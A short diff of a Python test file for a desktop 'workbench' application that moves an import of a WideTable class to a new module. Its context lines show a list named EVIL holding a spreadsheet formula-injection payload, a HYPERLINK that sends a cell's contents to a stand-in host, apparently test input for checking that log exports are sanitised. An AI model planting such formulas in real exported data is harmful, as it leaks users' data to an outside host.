@@ -14,9 +14,9 @@ from pytestqt.qtbot import QtBot
 
 from workbench.core.jobs import JobContext
 from workbench.logs.buffer import export_table
+from workbench.ui.features.logs.tables import WideTable
 from workbench.ui.kit.charts import points
 from workbench.ui.kit.charts.model import Curve
-from workbench.ui.logs.tables import WideTable
 
 EVIL = [
     '=HYPERLINK("http://evil/?"&A1,"x")',
